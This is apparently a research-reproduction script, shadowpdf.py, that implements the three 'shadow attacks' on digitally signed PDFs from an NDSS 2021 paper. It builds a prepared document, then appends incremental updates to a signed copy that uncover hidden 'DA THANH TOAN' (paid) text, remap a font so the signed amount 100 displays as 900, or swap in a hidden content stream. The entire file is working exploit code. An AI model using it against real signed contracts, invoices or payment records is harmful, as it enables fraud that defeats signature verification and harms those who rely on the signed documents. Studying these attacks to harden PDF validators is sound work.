#!/usr/bin/env python3
"""shadowpdf: the three shadow attacks on signed PDFs (Mainka, Mladenov, Rohlmann, "Shadow
Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021), crafted with nothing but
the Python standard library.

usage:
  shadowpdf.py base OUT.pdf          -> a one-page PDF prepared for the attacks, to be signed:
                                        the page draws "So tien: 100" in font 5 0 R, then the
                                        text "DA THANH TOAN" hidden under a white form XObject
                                        6 0 R (the overlay); object 7 0 R is a content stream no
                                        page draws (a hidden alternative content).
  shadowpdf.py MODE SIGNED.pdf OUT   -> appends one incremental update (classic xref table) to
                                        SIGNED.pdf, the base signed:
    hide              the overlay 6 0 R rewritten empty: the hidden text shows
    replace           the font 5 0 R redefined (/Differences: "1" is drawn as "9"): the signed
                      content stream, untouched, now reads "So tien: 900"
    hide_and_replace  the page re-pointed to the hidden content stream 7 0 R: no new content
"""
import re
import sys

from pdfbytes import append_update, latest, stream, write_pdf


def base(out_path):
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> >>",
        stream(b"BT /F1 14 Tf 72 760 Td (So tien: 100) Tj ET\n"
               b"BT /F1 14 Tf 72 700 Td (DA THANH TOAN) Tj ET\nq /Fm1 Do Q"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        stream(b"1 g 60 690 300 30 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "),
        stream(b"BT /F1 14 Tf 72 760 Td (So tien: 900) Tj ET"),
    ]
    open(out_path, "wb").write(write_pdf(objs))


def attack(mode, src, dst):
    data = bytearray(open(src, "rb").read())
    _, _, _, objects = latest(data)  # the latest version of every object (no object streams)
    page_num = [n for n, body in objects.items() if re.search(r"/Type\s*/Page(?!s)", body)][-1]

    if mode == "hide":
        update = [(6, stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "))]
    elif mode == "replace":
        update = [(5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica "
                      b"/Encoding << /Type /Encoding /Differences [49 /nine] >> >>")]
    elif mode == "hide_and_replace":
        page = re.sub(r"/Contents\s+(\d+ 0 R|\[[^\]]*\])", "/Contents 7 0 R", objects[page_num])
        update = [(page_num, page.encode("latin-1"))]
    else:
        sys.exit("unknown mode " + mode)

    open(dst, "wb").write(append_update(data, update))


if __name__ == "__main__":
    if sys.argv[1] == "base":
        base(sys.argv[2])
    else:
        attack(sys.argv[1], sys.argv[2], sys.argv[3])
